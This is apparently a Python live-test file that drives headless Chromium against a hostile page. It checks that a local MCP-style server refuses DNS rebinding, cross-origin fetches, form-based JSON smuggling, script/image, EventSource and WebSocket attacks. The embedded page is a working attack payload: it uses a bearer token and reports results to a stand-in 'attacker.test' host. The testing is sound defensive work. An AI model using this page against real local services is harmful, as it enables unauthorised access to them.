"""A web page in a real browser of this host, hostile: it gets nothing done and learns nothing but that a port is open.

DNS rebinding is done for real: the page's own name leads to the server's address. What the page sends passes a
witness that notes each request and the server's answer, so that a refusal is known to be the server's, not the
browser's. The page has a valid credential. For each of the defences (Host, Origin, credential) there is a request
that it alone refused: sent again with only that mended, the server takes it. A browser asks before it sends a
credential to another origin, and the server never agrees; to see the Origin check alone, the witness agrees once, as
a proxy in front would that lets all origins in.
"""

import http.client
import io
import json
import os
import shutil
import signal
import socket
import socketserver
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.contract.bad_input import HTTP, credential, private_world, stored
from tests.contract.wires import tcp
from tests.live.world import World, until
from tests.protocol.messages import MODERN, Message, send

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
BROWSER = os.environ.get("PEERWAKE_BROWSER") or next(filter(None, map(shutil.which, BROWSERS)), None)
pytestmark = [
    pytest.mark.live,
    pytest.mark.skipif(
        BROWSER is None or sys.platform != "linux",
        reason="NOT TESTED: attacks of web pages; no Chromium on Linux here (PEERWAKE_BROWSER names one)",
    ),
]

ATTACKER = "attacker.test"
BOB = "scripted-bob"
ADDRESS = "127.0.0.2"
SECONDS = 150.0
QUIET = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update", "--disable-extensions", "--no-proxy-server"),
    *("--disable-dev-shm-usage", "--password-store=basic"),
)
LET_IN = (
    b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Methods: *\r\n"
    b"Access-Control-Allow-Headers: *, Authorization\r\nAccess-Control-Allow-Private-Network: true\r\n"
    b"Connection: close\r\n\r\n"
)
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const port = %(port)d, token = %(token)s, body = %(body)s, wanted = /%(wanted)s/, seen = {};
const wait = (ms) => new Promise((done) => setTimeout(() => done("nothing in time"), ms));
const tried = async (name, work) => {
  if (!wanted.test(name)) return;
  try { seen[name] = await Promise.race([work(), wait(6000)]); } catch (error) { seen[name] = "threw " + error.name; }
};
const got = async (url, options) => {
  const answer = await fetch(url, options);
  return {type: answer.type, status: answer.status, text: await answer.text()};
};
const json = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream",
  "MCP-Protocol-Version": "%(era)s", "Mcp-Method": "tools/call", "Mcp-Name": "send_to_peer"};
const loaded = (tag, url) => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded"); element.onerror = () => done("failed");
  element.src = url; document.body.append(element);
});
const posted = (url, type) => new Promise((done) => {
  const frame = document.createElement("iframe"), form = document.createElement("form"),
    field = document.createElement("input");
  frame.name = "frame" + Math.random(); form.target = frame.name; form.method = "POST"; form.enctype = type;
  form.action = url;
  // text/plain writes name=value: the end of the JSON goes into a string of its own.
  field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}'; form.append(field);
  frame.onload = () => {
    let found = "hidden";
    try { found = frame.contentDocument.body.innerText; } catch (error) { found = "hidden by " + error.name; }
    if (found) done(found);
  };
  document.body.append(frame, form); form.submit();
});
const stream = (url) => new Promise((done) => {
  const source = new EventSource(url);
  source.onopen = () => done("opened"); source.onmessage = (event) => done(event.data);
  source.onerror = () => { if (source.readyState === 2) done("refused"); };
});
const socket = (url) => new Promise((done) => {
  const made = new WebSocket(url); made.onopen = () => done("opened"); made.onerror = () => done("refused");
});
(async () => {
  for (const [name, host] of [["rebound", location.hostname], ["crossed", "127.0.0.1"], ["named", "localhost"]]) {
    const base = "http://" + host + ":" + port, own = {Authorization: "Bearer " + token};
    await tried(name + " call", () => got(base + "/mcp", {method: "POST", headers: {...json, ...own}, body}));
    await tried(name + " bare call", () => got(base + "/mcp", {method: "POST", headers: json, body}));
    await tried(name + " read", () => got(base + "/mcp", {headers: own}));
    await tried(name + " stream", () => got(base + "/sse", {headers: own}));
    await tried(name + " simple", () => got(base + "/mcp", {method: "POST", body}));
    await tried(name + " blind", () => got(base + "/mcp", {method: "POST", mode: "no-cors", body}));
    await tried(name + " blind read", () => got(base + "/sse", {mode: "no-cors"}));
    await tried(name + " beacon", async () => navigator.sendBeacon(base + "/messages", new Blob([body])));
    await tried(name + " image", () => loaded("img", base + "/mcp"));
    await tried(name + " script", () => loaded("script", base + "/mcp?callback=steal"));
    await tried(name + " form", () => posted(base + "/mcp", "text/plain"));
    await tried(name + " encoded form", () => posted(base + "/messages", "application/x-www-form-urlencoded"));
    await tried(name + " events", () => stream(base + "/sse"));
    await tried(name + " socket", () => socket("ws://" + host + ":" + port + "/mcp"));
  }
  await fetch("%(report)s", {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


class Site(ThreadingHTTPServer):
    """Where the page sends its report."""

    def __init__(self) -> None:
        super().__init__((ADDRESS, 0), Handler)
        self.report: dict[str, Any] = {}
        self.has_report = threading.Event()


class Handler(BaseHTTPRequestHandler):
    server: Site

    def do_POST(self) -> None:
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(204)
        self.end_headers()
        self.server.has_report.set()

    def log_message(self, format: str, *words: object) -> None:
        pass


@dataclass
class Conversation:
    """The bytes of one connection, in both directions."""

    sent: bytearray = field(default_factory=bytearray)
    got: bytearray = field(default_factory=bytearray)


@dataclass(frozen=True)
class Exchange:
    """One request as it reached the server, and how it was answered; `code` is that of a refusal."""

    line: str
    headers: http.client.HTTPMessage
    body: bytes
    status: int
    code: str | None

    @property
    def is_named_well(self) -> bool:
        return self.headers["Host"].partition(":")[0] in ("127.0.0.1", "localhost")

    def again(self, **headers: str | None) -> bytes:
        """Return the request with some headers replaced, or left out where they are None."""
        given = {name.lower(): value for name, value in self.headers.items()} | {"connection": "close"} | headers
        lines = [self.line, *(f"{name}: {value}" for name, value in given.items() if value is not None)]
        return "\r\n".join([*lines, "", ""]).encode() + self.body


def messages(data: bytes) -> Iterator[tuple[str, http.client.HTTPMessage, bytes]]:
    """Return the first line, the headers and the body of each whole HTTP message; a stream has no other behind it."""
    while b"\r\n\r\n" in data:
        head, _, data = data.partition(b"\r\n\r\n")
        line, _, rest = head.partition(b"\r\n")
        headers = http.client.parse_headers(io.BytesIO(rest + b"\r\n\r\n"))
        is_stream = "Transfer-Encoding" in headers
        size = len(data) if is_stream else int(headers.get("Content-Length", "0"))
        if len(data) < size:
            return
        yield line.decode(), headers, data[:size]
        data = data[size:]


def code_of(body: bytes) -> str | None:
    try:
        return str(json.loads(body)["error"]["data"]["code"])
    except (ValueError, KeyError, TypeError):
        return None


class Witness(socketserver.ThreadingTCPServer):
    """An address that leads to the server and notes what passes; a page that is here itself is given first."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, address: str, port: int, servers_port: int, lets_all_in: bool = False) -> None:
        super().__init__((address, port), Passing)
        self.servers_port = servers_port
        self.lets_all_in = lets_all_in
        self.page = b""
        self.conversations: list[Conversation] = []

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def exchanges(self) -> list[Exchange]:
        """Return what was asked and has been answered."""
        found = []
        for each in self.conversations:
            asked, answered = messages(bytes(each.sent)), messages(bytes(each.got))
            for (line, headers, body), (answer, _, content) in zip(asked, answered, strict=False):
                found.append(Exchange(line, headers, body, int(answer.split()[1]), code_of(content)))
        return found

    def is_answered(self) -> bool:
        """Tell whether there is an answer to every request."""
        pairs = [(messages(bytes(one.sent)), messages(bytes(one.got))) for one in self.conversations]
        return all(len(list(asked)) == len(list(answered)) for asked, answered in pairs)


class Passing(socketserver.BaseRequestHandler):
    server: Witness

    def handle(self) -> None:
        browsers: socket.socket = self.request
        first = browsers.recv(65536)
        if first.startswith((b"GET / ", b"GET /favicon")):
            head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self.server.page)}\r\n"
            browsers.sendall(head.encode() + b"Connection: close\r\n\r\n" + self.server.page)
            return
        if self.server.lets_all_in and first.startswith(b"OPTIONS "):
            browsers.sendall(LET_IN)
            return
        noted = Conversation(bytearray(first))
        self.server.conversations.append(noted)
        with socket.create_connection(("127.0.0.1", self.server.servers_port)) as servers:
            servers.sendall(first)
            threading.Thread(target=self._onward, args=(browsers, servers, noted), daemon=True).start()
            # To its end, also when the browser has gone: what the server says is what counts.
            while data := servers.recv(65536):
                noted.got += data
                with suppress(OSError):
                    browsers.sendall(data)

    def _onward(self, browsers: socket.socket, servers: socket.socket, noted: Conversation) -> None:
        with suppress(OSError):
            while data := browsers.recv(65536):
                noted.sent += data
                servers.sendall(data)
        with suppress(OSError):
            servers.shutdown(socket.SHUT_WR)


@contextmanager
def serving(server: socketserver.BaseServer) -> Iterator[None]:
    """Serve in a thread for as long as the block runs."""
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def browser(url: str) -> Iterator[None]:
    """Run a browser of its own on one page, for as long as the block runs; its whole process group ends with it."""
    assert BROWSER is not None
    with tempfile.TemporaryDirectory(prefix="pw-", dir="/tmp", ignore_cleanup_errors=True) as profile:
        argv = [
            BROWSER,
            *QUIET,
            f"--user-data-dir={profile}",
            f"--host-resolver-rules=MAP {ATTACKER} {ADDRESS}",
            url,
        ]
        env = os.environ | {"HOME": profile, "TMPDIR": profile}
        # DEVNULL, and no pipe: its helpers would hold it open.
        found = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, process_group=0)
        try:
            yield
        finally:
            os.killpg(found.pid, signal.SIGKILL)
            found.wait()


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with private_world(**HTTP) as world:
        world.create("alice")
        world.create("bob")
        world.serve()
        yield world


@dataclass(frozen=True)
class Visit:
    """What a page saw of each of its attacks, what the server was asked and said, and what it then held."""

    report: dict[str, Any]
    exchanges: list[Exchange]
    stored: list[tuple[Any, ...]]


def visit(world: World, wanted: str = ".", lets_all_in: bool = False) -> Visit:
    """Have a browser look at the hostile page, which makes those of its attacks whose names match `wanted`."""
    call: Message = send(1, "from a page", MODERN, to="alice")
    server = tcp(world).port
    assert server is not None
    site, near = Site(), Witness("127.0.0.1", 0, server, lets_all_in)
    name = Witness(ADDRESS, near.port, server)
    given = {
        "port": near.port,
        "era": MODERN,
        "wanted": wanted,
        "token": json.dumps(credential(world, BOB)),
        "body": json.dumps(json.dumps(call)),
        "report": f"http://{ATTACKER}:{site.server_address[1]}/report",
    }
    name.page = (PAGE % given).encode()
    with serving(site), serving(near), serving(name), browser(f"http://{ATTACKER}:{near.port}/"):
        assert site.has_report.wait(SECONDS), "the page did not report"
        until(lambda: near.is_answered() and name.is_answered(), what="the last answer")
        return Visit(site.report, near.exchanges() + name.exchanges(), stored(world))


@pytest.fixture(scope="module")
def visited(world: World) -> Visit:
    return visit(world)


@pytest.fixture(scope="module")
def report(visited: Visit) -> dict[str, Any]:
    """Return what the page saw of each of its attacks."""
    return visited.report


def test_nothing_a_page_sent_was_accepted(world: World, visited: Visit) -> None:
    assert visited.stored == []
    assert "ev=send" not in world.log("delivery")
    assert not list((world.root.run / "tmux").iterdir())


def refusal_of(exchange: Exchange) -> tuple[int, str]:
    """Return the refusal that a request is to get: by its name, else its origin, else for want of a credential."""
    if not exchange.is_named_well:
        return 421, "bad-host"
    return (403, "bad-origin") if exchange.headers["Origin"] else (401, "bad-credential")


def test_every_request_that_reached_the_server_was_refused_by_the_first_defence_in_its_way(visited: Visit) -> None:
    for each in visited.exchanges:
        assert (each.status, each.code) == refusal_of(each), (each.line, each.headers.items())
    found = {(each.status, each.line.partition(" ")[0]) for each in visited.exchanges}
    assert found >= {(421, "GET"), (421, "POST"), (403, "OPTIONS"), (403, "POST"), (401, "GET")}


def answer_to(world: World, request: bytes) -> int:
    """Send a request to the server itself and return the status of its answer."""
    with socket.create_connection(("127.0.0.1", tcp(world).port), timeout=20) as connection:
        connection.sendall(request)
        with connection.makefile("rb") as answer:
            return int(answer.readline().split()[1])


def test_the_host_alone_stood_in_the_way_of_a_rebound_page(world: World, visited: Visit) -> None:
    asked = [each for each in visited.exchanges if each.status == 421 and each.line.startswith("GET /sse ")]
    # A browser asks once more after a 421.
    one, *_ = [each for each in asked if each.headers["Authorization"]]
    assert one.headers["Origin"] is None
    assert answer_to(world, one.again()) == 421
    assert answer_to(world, one.again(host="localhost")) == 200


def test_the_credential_alone_stood_in_the_way_of_a_blind_read(world: World, visited: Visit) -> None:
    asked = [each for each in visited.exchanges if each.status == 401 and each.line.startswith("GET /sse ")]
    assert asked
    for each in asked:
        assert answer_to(world, each.again()) == 401
        assert answer_to(world, each.again(authorization=f"Bearer {credential(world, BOB)}")) == 200


@pytest.fixture(scope="module")
def let_in(world: World, visited: Visit) -> Visit:
    """The calls of the same page, where something in front of the server lets all origins in."""
    return visit(world, wanted=r"^\w+ call$", lets_all_in=True)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_the_origin_alone_stands_in_the_way_where_a_proxy_lets_all_in(world: World, let_in: Visit, host: str) -> None:
    assert let_in.stored == []
    (one,) = [each for each in let_in.exchanges if each.headers["Host"].startswith(f"{host}:")]
    assert one.line.startswith("POST /mcp ")
    assert one.headers["Authorization"] == f"Bearer {credential(world, BOB)}"
    assert ATTACKER in one.headers["Origin"]
    assert (one.status, one.code) == (403, "bad-origin")
    before = len(stored(world))
    assert answer_to(world, one.again()) == 403
    assert len(stored(world)) == before
    assert answer_to(world, one.again(origin=None)) == 200
    assert len(stored(world)) == before + 1


def test_a_name_rebound_to_this_machine_is_refused_though_the_credential_is_good(report: dict[str, Any]) -> None:
    for name in ("call", "bare call", "read", "stream", "simple"):
        answer = report[f"rebound {name}"]
        assert answer["status"] == 421, (name, answer)
        assert json.loads(answer["text"])["error"]["data"] == {"code": "bad-host"}


@pytest.mark.parametrize("where", ["crossed", "named"])
def test_another_origin_reads_nothing_and_may_not_call(report: dict[str, Any], where: str) -> None:
    for name in ("call", "bare call", "read", "stream", "simple"):
        assert report[f"{where} {name}"] == "threw TypeError", name
    for name in ("blind", "blind read"):
        assert report[f"{where} {name}"] in ({"type": "opaque", "status": 0, "text": ""}, "threw TypeError"), name


@pytest.mark.parametrize("where", ["rebound", "crossed", "named"])
def test_no_element_form_stream_or_socket_gets_in(report: dict[str, Any], where: str) -> None:
    for name in ("image", "script"):
        assert report[f"{where} {name}"] == "failed", name
    for name in ("events", "socket"):
        assert report[f"{where} {name}"] == "refused", name
    for name in ("form", "encoded form"):
        assert "bad-host" in report[f"{where} {name}"] or report[f"{where} {name}"].startswith("hidden"), name


def test_what_a_page_reads_names_no_peer_path_version_or_user(world: World, report: dict[str, Any]) -> None:
    text = json.dumps(report)
    for secret in ("alice", "bob", str(world.root.home), credential(world, "scripted-bob"), "version", "uvicorn"):
        assert secret not in text, secret
